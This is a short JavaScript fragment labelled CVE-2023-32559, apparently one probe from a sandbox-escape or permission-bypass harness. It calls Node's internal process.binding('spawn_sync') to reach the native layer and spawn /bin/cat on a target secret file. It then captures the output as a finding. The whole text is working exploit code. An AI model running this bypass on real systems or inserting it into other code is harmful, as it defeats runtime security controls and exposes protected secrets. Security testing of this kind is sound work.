// CVE-2023-32559
// Process.binding reaches the native layer.
try {
    const { spawnSync } = process.binding('spawn_sync');
    void spawnSync;
    const out = process.binding('spawn_sync').spawn({ file: '/bin/cat', args: ['cat', GOAL.secret], stdio: [{ type: 'pipe', readable: true }, { type: 'pipe', writable: true }, { type: 'pipe', writable: true }] });
    note(new TextDecoder().decode(out.output[1]));
} catch {}
return found;
